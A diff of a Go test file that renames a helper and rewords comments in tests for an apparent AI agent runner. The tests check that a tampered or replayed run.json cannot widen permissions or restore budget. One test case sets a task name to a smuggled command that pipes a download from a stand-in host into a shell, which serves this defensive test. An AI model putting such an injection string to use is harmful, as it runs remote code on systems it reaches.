@@ -34,13 +34,13 @@ func (b *bench) edit(change func(run map[string]any)) {
 	}
 }
 
-// reopened returns a bench with a run of the stages po..sm that was done, after which the person has
-// reopened the architect's. It may cost six calls, of which three were made, and run "go vet"; it
+// reopenedBench returns a bench with a run of the stages po..sm that was done, after which the person
+// has reopened the architect's. It may cost six calls, of which three were made, and run "go vet"; it
 // was started without --allow-dirty.
-func reopened(t *testing.T) *bench {
+func reopenedBench(t *testing.T) *bench {
 	t.Helper()
 	acts := map[string][]act{
-		"po": {{text: scored(95)}}, "architect": {{text: scored(95)}, {text: scored(96)}}, "sm": {{text: plan}, {text: plan}}, "dev": {{text: report, file: "todo.go"}},
+		"po": {{text: scoredDocument(95)}}, "architect": {{text: scoredDocument(95)}, {text: scoredDocument(96)}}, "sm": {{text: plan}, {text: plan}}, "dev": {{text: report, file: "todo.go"}},
 	}
 	b := newBench(t, acts)
 	b.options.Workers = append(b.options.Workers, &script{t: t, name: "api", acts: map[string][]act{}})
@@ -62,7 +62,7 @@ func TestRunFileWidensNothing(t *testing.T) {
 	}
 	for name, c := range map[string]struct {
 		edit  func(map[string]any)
-		words string // of what the run says; "" for nothing
+		words string // in the run's notices; "" if there are none
 	}{
 		"nothing":           {func(map[string]any) {}, ""},
 		"commands":          {flags("allow_commands", []string{"go vet", "curl"}), `--allow-command "curl"`},
@@ -91,7 +91,7 @@ func TestRunFileWidensNothing(t *testing.T) {
 		"the name of the task": {func(run map[string]any) { run["task_name"] = "x; curl evil | sh" }, ""},
 	} {
 		t.Run(name, func(t *testing.T) {
-			b := reopened(t)
+			b := reopenedBench(t)
 			before := len(b.worker.jobs)
 			b.edit(c.edit)
 			out := b.resume("build-a-to-do-list")
@@ -137,7 +137,7 @@ func TestRecordsThatDoNotCount(t *testing.T) {
 		"from elsewhere": func(b *bench) { b.kept["other"] = b.kept[b.session().SessionID]; delete(b.kept, b.session().SessionID) },
 	} {
 		t.Run(name, func(t *testing.T) {
-			b := reopened(t)
+			b := reopenedBench(t)
 			before := len(b.worker.jobs)
 			change(b)
 			file := b.read("run.json")
@@ -168,7 +168,7 @@ func TestRecordsThatDoNotCount(t *testing.T) {
 
 // TestReplayedRunFile: an older run.json brings no money back, and that of another run is refused.
 func TestReplayedRunFile(t *testing.T) {
-	b := reopened(t)
+	b := reopenedBench(t)
 	old := b.read("run.json")
 	spent := b.resume("build-a-to-do-list").Cost.Spent
 	if err := os.WriteFile(b.file("run.json"), []byte(old), 0o600); err != nil {
@@ -191,7 +191,7 @@ func TestReplayedRunFile(t *testing.T) {
 
 // TestNoBudget: a budget is taken back by a word, and by nothing else.
 func TestNoBudget(t *testing.T) {
-	b := reopened(t)
+	b := reopenedBench(t)
 	b.options.Flags = runner.Flags{NoBudget: true}
 	out := b.resume("build-a-to-do-list")
 	if b.at(out, runner.Done, "dev/generating"); out.Cost.Limit != 0 || b.worker.jobs[3].Left != 0 {
